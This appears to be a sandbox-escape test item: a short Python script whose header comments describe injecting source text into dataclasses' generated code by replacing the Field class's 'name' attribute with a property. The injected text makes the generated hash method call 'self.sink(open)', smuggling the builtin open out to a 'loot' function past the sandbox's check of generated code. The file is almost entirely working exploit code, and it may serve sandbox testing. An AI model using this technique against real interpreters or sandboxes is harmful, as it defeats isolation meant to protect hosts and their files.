# aim: inject source text by a property that is put on the class of all fields
# mechanism: type(field()).name can be assigned while the cell runs
# language: builtins
# reason: the text that dataclasses writes is checked before it runs
# jail: process
# plain: loot

import dataclasses

Field = type(dataclasses.field())
before = Field.name


@dataclasses.dataclass
class Base:
    x: int = 0


try:
    Field.name = property(lambda self: "x, self.sink(open)", lambda self, value: None)

    @dataclasses.dataclass(init=False, repr=False, eq=False, unsafe_hash=True, match_args=False)
    class Record:
        x: int = 0

        def sink(self, found):
            loot(found)
            return 0

    hash(Record())
finally:
    Field.name = before
